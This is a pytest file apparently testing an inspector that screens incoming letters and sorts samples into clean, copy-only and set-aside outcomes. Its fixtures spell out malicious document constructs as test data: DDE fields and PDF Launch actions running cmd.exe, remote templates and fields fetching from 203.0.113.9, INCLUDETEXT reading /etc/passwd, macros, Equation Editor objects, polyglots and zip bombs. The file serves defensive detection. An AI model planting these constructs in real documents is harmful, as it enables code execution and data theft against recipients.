"""Ordinary letters are clean, what does more is shown as a copy, and real attacks are set aside."""

import pytest

from referrals.inspecting.child import EICAR, inspect
from referrals.inspecting.findings import FINDINGS, Outcome, for_sender, for_staff, worst
from referrals.inspecting.sniffing import DOCX, PDF, RTF, UNKNOWN, sniff
from tests import sample_files as make
from tests.sample_files import broken_scan, docx, field, pdf, picture, relation, rtf, rtf_object
from tests.timing import processor_seconds

SCRIPT = "<</S/JavaScript/JS({})>>"
FORM = "/AcroForm<</Fields[6 0 R]>>"
XFA = "/AcroForm<</XFA(x)/Fields[{}]>>"
CHECKS_A_DATE = (
    '<</Subtype/Widget/AA<</F<</S/JavaScript/JS(AFDate_FormatEx\\("dd/mm/yyyy"\\);)>>>>>>'
)
LOCAL = "file:///C:\\Letters\\Practice.dotm"
SERVER = "file:///\\\\server\\share\\x.dotm"
WEB = "http://203.0.113.9/x.dotm"
FOR_ONE_CHART = {"word__charts__chart1_xml": "<c/>"}

CLEAN = {
    "a letter": pdf(),
    "a letter in packed objects": make.packed_pdf(),
    "a PDF that opens without a password": make.locked_pdf(),
    "a printer’s lines in front": b"\x1b%-12345X@PJL JOB\r\n@PJL ENTER LANGUAGE=PDF\r\n" + pdf(),
    "a mail’s lines in front": b"Content-Type: application/pdf\r\nX-Sample: 1\r\n\r\n" + pdf(),
    "a mark of byte order in front": b"\xef\xbb\xbf" + pdf(),
    "Launch in a title": pdf("<</Title(C:/Letters/Launch/JavaScript /JS /AA)>>"),
    "JavaScript in the text": pdf(text="BT (/JavaScript /Launch /EF) Tj ET"),
    "opens on a page": pdf(catalogue="/OpenAction<</S/GoTo/D[3 0 R/Fit]>>"),
    "opens with a zoom": pdf(catalogue="/OpenAction[3 0 R/XYZ 0 0 1.5]"),
    "a link to a web page": pdf(
        page="/Annots[<</Subtype/Link/A<</S/URI/URI(https://a.example)>>>>]"
    ),
    "a link to another letter": pdf(page="/Annots[<</Subtype/Link/A<</S/GoToR/F(b.pdf)>>>>]"),
    "a web page when a button is pressed": pdf(page="/AA<</D<</S/URI/URI(https://a.example)>>>>"),
    "a font that is called JS": pdf(page="/Resources<</Font<</JS 5 0 R>>>>"),
    "a fillable form": pdf("<</Subtype/Widget/FT/Tx/V(Robin)>>", catalogue=FORM),
    "a form that checks a date": pdf(CHECKS_A_DATE, catalogue=FORM),
    "an empty list of attachments": pdf(catalogue="/Names<</EmbeddedFiles<</Names[]>>>>/AA<<>>"),
    "hidden layers": pdf("<</Type/OCG/Name(a)>>", catalogue="/OCProperties<</OCGs[6 0 R]>>"),
    "429 scanned pages": lambda: make.scan_pdf(429),
    "a Word letter": docx(),
    "a chart with its numbers": docx(
        **FOR_ONE_CHART, word__embeddings__Sheet1_xlsx=make.worksheet()
    ),
    "a chart with numbers that cannot be read": docx(
        **FOR_ONE_CHART, word__embeddings__Sheet1_xlsx=b"PK"
    ),
    "a link in Word": docx(relations=relation("hyperlink", "https://a.example")),
    "a template on the sender’s drive": docx(relations=relation("attachedTemplate", LOCAL)),
    "a list for a mail merge": docx(relations=relation("mailMergeSource", SERVER)),
    "a picture on the sender’s drive": docx(relations=relation("image", "file:///C:\\logo.png")),
    "a date field": docx(body=field(' DATE \\@ "d/MM/yyyy" ')),
    "a link field": docx(body=field(' HYPERLINK "https://a.example" ', '\\o "DDE"')),
    "a picture pasted from a mail": docx(body=field(' INCLUDEPICTURE "cid:image001.png" \\d ')),
    "an RTF letter": rtf(),
    "RTF after a mark of byte order": b"\xef\xbb\xbf" + rtf(),
    "RTF after empty lines": b"\r\n\r\n  " + rtf(),
    "a mail saved by Outlook": rtf(r"\fromhtml1{\*\htmltag19 <html>}{\*\htmltag50 <script>}"),
    "RTF with a template on a drive": rtf(r"{\*\template C:\\Program Files\\Letters\\Normal.dot}"),
    "RTF with a link": rtf(r'{\field{\*\fldinst HYPERLINK "https://a.example"}{\fldrslt a}}'),
    "a photograph with a second frame": make.with_second_frame(),
    "a picture in 16-bit grey": picture(mode="I;16"),
    "a photograph in print colours": picture("JPEG", mode="CMYK"),
    "a fax": make.tiff(pages=3, size=(1728, 1146)),
    "a scan of 60 pages": lambda: make.tiff(pages=60, size=(2480, 3508)),
    "a scan that breaks off": broken_scan(cut=True),
    "a telephone’s own kind of picture": make.heic(),
}
COPY = {
    "a script at opening": ("javascript", pdf(catalogue=f"/OpenAction{SCRIPT.format('a')}")),
    "a script under a name in pieces": (
        "javascript",
        pdf("<</S/J#61vaScript/J#53(a)>>"),
    ),
    "a script in packed objects": (
        "javascript",
        make.packed_pdf(
            SCRIPT.format("app.alert\\(1\\)"),
            catalogue="/Names<</JavaScript<</Names[(a) 6 0 R]>>>>",
        ),
    ),
    "a script in objects behind the end": (
        "javascript",
        pdf() + b"9 0 obj <</S/JavaScript>> endobj",
    ),
    "a script that only begins as a check": (
        "javascript",
        pdf(SCRIPT.format("AFDate_FormatEx\\(1\\);app.launchURL\\('a'\\)")),
    ),
    "a form that sends itself": ("submit_form", pdf("<</S/SubmitForm/F(https://a.example)>>")),
    "a second form inside": ("xfa", pdf("<<>>", catalogue=XFA.format("6 0 R"))),
    "a program on a link": ("launch", pdf(page="/Annots[<</Subtype/Link/A<</S/Launch/F(a)>>>>]")),
    "a film": ("rich_media", pdf(page="/Annots[<</Subtype/RichMedia/Rect[0 0 9 9]>>]")),
    "a portfolio": ("embedded_file", pdf("<</Type/Filespec/F(a.doc)/EF<</F 4 0 R>>>>")),
    "a worksheet without a chart": (
        "embedded_file",
        docx(word__embeddings__Sheet1_xlsx=make.worksheet()),
    ),
    "a document within": ("embedded_file", docx(word__embeddings__a_docx=make.worksheet("a"))),
    "a logo from Paint": (
        "ole_picture",
        docx(word__embeddings__oleObject1_bin=make.OLE + make.PAINT_CLASS),
    ),
    "a button that runs": ("control", docx(word__activeX__activeX1_xml="<ax/>")),
    "a logo from Paint in RTF": ("ole_picture", rtf(rtf_object("PBrush", b"BM"))),
    "a worksheet in RTF": ("ole_picture", rtf(rtf_object("Excel.Sheet.8", make.OLE))),
}
OPENS_A_PROGRAM = "<</S/Launch/Win<</F(cmd.exe)>>>>"
SET_ASIDE = {
    "a password": ("needs_password", make.locked_pdf(user="sample")),
    "a PDF that is none": ("could_not_inspect", b"%PDF-1.7 and then nothing"),
    "a PDF without pages": ("could_not_inspect", pdf().replace(b"/Kids[3 0 R]", b"/Kids[     ]")),
    "a form for Adobe alone": (
        "xfa_only",
        pdf(catalogue=XFA.format(""), text="BT (Please wait...) Tj ET"),
    ),
    "a form that must be drawn": (
        "xfa_only",
        pdf("<<>>", catalogue=XFA.format("6 0 R") + "/NeedsRendering true"),
    ),
    "a program at opening": ("launch_at_open", pdf(catalogue=f"/OpenAction{OPENS_A_PROGRAM}")),
    "a program when a page shows": ("launch_at_open", pdf(page=f"/AA<</O{OPENS_A_PROGRAM}>>")),
    "an address when a page shows": ("launch_at_open", pdf(page="/AA<</O<</S/URI/URI(a)>>>>")),
    "a program after a step to a page": (
        "launch_at_open",
        pdf(catalogue=f"/OpenAction<</S/GoTo/Next{OPENS_A_PROGRAM}>>"),
    ),
    "data from elsewhere": ("import_data", pdf("<</S/ImportData/F(\\\\\\\\203.0.113.9\\\\a)>>")),
    "a file on another machine": ("remote_goto", pdf("<</S/GoToR/F(\\\\\\\\203.0.113.9\\\\a)>>")),
    "an embedded file elsewhere": ("remote_goto", pdf("<</S/GoToE/F<</F(http://a.example)>>>>")),
    "a stream that lies elsewhere": (
        "external_object",
        pdf("<</F(http://a.example)/Length 1>>stream\n \nendstream"),
    ),
    "83,521 pages in a kilobyte": ("page_bomb", make.tree_of_pages(levels=4)),
    "two kinds at once": ("polyglot", b"GIF89a " + pdf()),
    "a web page in front": ("polyglot", b"x <script>alert(1)</script>" + pdf()),
    "a zip behind": ("polyglot", pdf() + docx()),
    "a picture with a zip behind": ("polyglot", picture() + docx()),
    "a picture that is a PDF": (
        "polyglot",
        picture("JPEG")[:2] + b"\xff\xe0\x00\x0a%PDF-1.4" + picture("JPEG")[2:],
    ),
    "a large picture": ("image_bomb", make.png_of(9000, 9000)),
    "40 large frames": ("image_bomb", lambda: make.tiff(pages=40, size=(7000, 7000))),
    "a large telephone picture": ("image_bomb", make.heic_header(9000, 9000)),
    "2,001 frames": ("page_bomb", lambda: make.tiff(pages=2001, size=(8, 8))),
    "half a picture’s head": ("could_not_inspect", picture()[:20]),
    "macros": ("macros", docx(word__vbaProject_bin="x")),
    "macros by their declared kind": (
        "macros",
        docx(types="<Default ContentType='a.MacroEnabled'/>"),
    ),
    "macros under another name": (
        "macros",
        docx(word__media__image1_png=make.OLE + "_VBA_PROJECT".encode("utf-16-le")),
    ),
    "macros in a worksheet": (
        "macros",
        docx(word__embeddings__a_xlsx=make.worksheet("xl/vbaProject.bin")),
    ),
    "a template on the web": ("remote_template", docx(relations=relation("attachedTemplate", WEB))),
    "a template on a server": (
        "remote_template",
        docx(relations=relation("attachedTemplate", SERVER)),
    ),
    "a relation in UTF-16": (
        "remote_template",
        docx(
            word___rels__settings_xml_rels=(
                "<?xml version='1.0' encoding='utf-16'?>" + relation("attachedTemplate", WEB)
            ).encode("utf-16")
        ),
    ),
    "an object on the web": (
        "external_object",
        docx(relations=relation("oleObject", f"mhtml:{WEB}")),
    ),
    "a frame on the web": ("external_object", docx(relations=relation("frame", WEB))),
    "a part on the web": ("external_object", docx(relations=relation("subDocument", WEB))),
    "a picture on the web": ("external_object", docx(relations=relation("image", WEB))),
    "DDE": ("dde", docx(body=field('DDEAUTO c:\\\\cmd.exe "/k"'))),
    "DDE in pieces": ("dde", docx(body=field("D", "DEA", 'UTO c:\\\\cmd.exe "/k"'))),
    "DDE in a simple field": ("dde", docx(body='<w:fldSimple w:instr="DDE cmd"/>')),
    "DDE spelled in numbers": (
        "dde",
        docx(
            body='<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
            + field("QUOTE 68 68 69")
            + '<w:r><w:instrText> cmd "a"</w:instrText></w:r></w:p>'
        ),
    ),
    "DDE in a footer": (
        "dde",
        docx(word__footer1_xml=f'<w:ftr xmlns:w="{make.WORD}">{field("DDE a")}</w:ftr>'),
    ),
    "text from elsewhere": ("include_field", docx(body=field('INCLUDETEXT "file:///etc/passwd"'))),
    "a picture from elsewhere": (
        "include_field",
        docx(body=field('INCLUDEPICTURE "\\\\\\\\203.0.113.9\\\\a.png" \\d')),
    ),
    "another document in its place": ("alt_chunk", docx(body='<w:altChunk r:id="r1"/>')),
    "a packed program": (
        "package",
        docx(word__embeddings__oleObject1_bin=make.OLE + make.PACKAGE_CLASS),
    ),
    "an object of the old equation editor": (
        "package",
        docx(body='<o:OLEObject xmlns:o="o" ProgID="Equation.3"/>'),
    ),
    "a zip bomb": ("zip_bomb", lambda: docx(word__media__zero_bin=bytes(201 * 1024 * 1024))),
    "5,001 parts": ("zip_bomb", lambda: docx(**{f"word__{n}_xml": "" for n in range(5001)})),
    "an RTF template on the web": ("remote_template", rtf(r"{\*\template http://203.0.113.9/a}")),
    "an RTF template on a server": (
        "remote_template",
        rtf(r"{\*\template \\\\203.0.113.9\\a.dotm}"),
    ),
    "an RTF template spelled in numbers": (
        "remote_template",
        rtf(r"{\*\template \u104?\u116?\u116?\u112?://203.0.113.9/a}"),
    ),
    "a web page inside RTF": ("html_object", rtf(r"{\object\objhtml{\*\objdata 01}}")),
    "a link that updates itself": ("external_object", rtf(r"{\object\objautlink a}")),
    "a packed program in RTF": ("package", rtf(rtf_object("Package", b"MZ"))),
    "the equation editor in RTF": ("package", rtf(rtf_object("Equation.3", make.OLE))),
    "a link as an object in RTF": ("package", rtf(rtf_object("OLE2Link", make.OLE))),
    "an object in odd spelling": ("package", rtf(r"{\object{\*\objdata 01{\*\x}05'0000}}")),
    "DDE in RTF": ("dde", rtf(r"{\field{\*\fldinst {\b DDE}{AUTO cmd}}}")),
    "a picture from elsewhere in RTF": (
        "include_field",
        rtf(r'{\field{\*\fldinst INCLUDEPICTURE "http://203.0.113.9/a.png"}}'),
    ),
    "the test sign of scanners": ("eicar", pdf() + EICAR),
    "the test sign alone": ("eicar", EICAR),
}


def found(made):
    data = made() if callable(made) else made
    return inspect(sniff(data) or UNKNOWN, data).codes


@pytest.mark.parametrize("kind", CLEAN)
def test_an_ordinary_file_is_clean(kind):
    codes = found(CLEAN[kind])
    assert codes <= set(FINDINGS)
    assert worst(codes) == Outcome.MILD


@pytest.mark.parametrize("kind", COPY)
def test_a_file_that_does_more_is_shown_as_a_copy(kind):
    code, made = COPY[kind]
    codes = found(made)
    assert code in codes
    assert worst(codes) == Outcome.COPY


@pytest.mark.parametrize("kind", SET_ASIDE)
def test_a_harmful_or_unreadable_file_is_set_aside(kind):
    code, made = SET_ASIDE[kind]
    codes = found(made)
    assert code in codes
    assert worst(codes) == Outcome.SET_ASIDE


def test_every_code_that_is_found_has_its_words():
    assert {code for code, _ in [*COPY.values(), *SET_ASIDE.values()]} <= set(FINDINGS)


def test_an_unknown_code_counts_as_the_worst():
    assert worst(["form_calculations", "of_a_later_release"]) == Outcome.SET_ASIDE
    assert for_staff(["of_a_later_release"]) == ["Something in it looked wrong."]
    assert for_sender(["polyglot"]) == ""


def test_pages_are_counted_as_programs_draw_them():
    assert inspect(PDF, make.scan_pdf(3)).pages == 3
    assert inspect(PDF, make.tree_of_pages(levels=2, width=3)).pages == 9
    endless = pdf().replace(b"/Kids[3 0 R]", b"/Kids[2 0 R]")
    assert inspect(PDF, endless).codes == {"could_not_inspect"}


def test_a_scan_of_429_pages_is_inspected_in_two_seconds():
    data = make.scan_pdf(429)
    assert processor_seconds(lambda: inspect(PDF, data)) < 2


def test_kinds_are_told_apart_whatever_their_name():
    assert (sniff(docx()), sniff(rtf())) == (DOCX, RTF)
